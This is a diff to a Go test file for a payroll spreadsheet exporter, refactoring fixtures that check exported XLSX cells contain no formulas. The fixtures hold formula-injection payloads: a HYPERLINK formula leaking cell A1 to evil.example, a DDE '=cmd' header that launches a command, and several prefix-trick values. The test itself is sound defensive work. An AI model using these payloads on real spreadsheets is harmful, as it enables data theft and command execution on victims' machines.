@@ -9,6 +9,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/payrun/payrun/batch/sheet"
 	"github.com/xuri/excelize/v2"
 )
 
@@ -43,16 +44,16 @@ func TestInertText(t *testing.T) {
 
 // injectionSource is a run whose payee fields are formulas.
 func injectionSource() *sliceSource {
-	evil := []InputField{
-		{"client_transfer_id", "inj-1"},
-		{"first_name", `=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
-		{"last_name", "+1-1"},
-		{"email", "@SUM(A1)"},
-		{"notes", "-2+3"},
-		{"=cmd|' /C calc'!A0", "\tTAB"},
-		{"amount", "-5.00"},
-		{"city", " =1+1"},
-		{"state_province", "\n=1+1"},
+	evil := []sheet.InputField{
+		{Header: "client_transfer_id", Value: "inj-1"},
+		{Header: "first_name", Value: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
+		{Header: "last_name", Value: "+1-1"},
+		{Header: "email", Value: "@SUM(A1)"},
+		{Header: "notes", Value: "-2+3"},
+		{Header: "=cmd|' /C calc'!A0", Value: "\tTAB"},
+		{Header: "amount", Value: "-5.00"},
+		{Header: "city", Value: " =1+1"},
+		{Header: "state_province", Value: "\n=1+1"},
 	}
 	return &sliceSource{
 		run: ResultsRun{ID: 1, SheetName: "evil.csv", StartedAt: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)},
@@ -74,13 +75,13 @@ func TestResultsFormulaInjectionXLSX(t *testing.T) {
 	f := openBook(t, path)
 	rows := rawRows(t, f, SheetResults)
 	header, row := rows[0], rows[1]
-	for _, sheet := range []string{SheetResults, SheetNeedsAction, SheetSummary} {
-		rs := rawRows(t, f, sheet)
+	for _, sheetName := range []string{SheetResults, SheetNeedsAction, SheetSummary} {
+		rs := rawRows(t, f, sheetName)
 		for r, cells := range rs {
 			for c := range cells {
 				ref := cellRef(c, r+1)
-				if fm, err := f.GetCellFormula(sheet, ref); err != nil || fm != "" {
-					t.Errorf("%s!%s has formula %q (err %v)", sheet, ref, fm, err)
+				if fm, err := f.GetCellFormula(sheetName, ref); err != nil || fm != "" {
+					t.Errorf("%s!%s has formula %q (err %v)", sheetName, ref, fm, err)
 				}
 			}
 		}
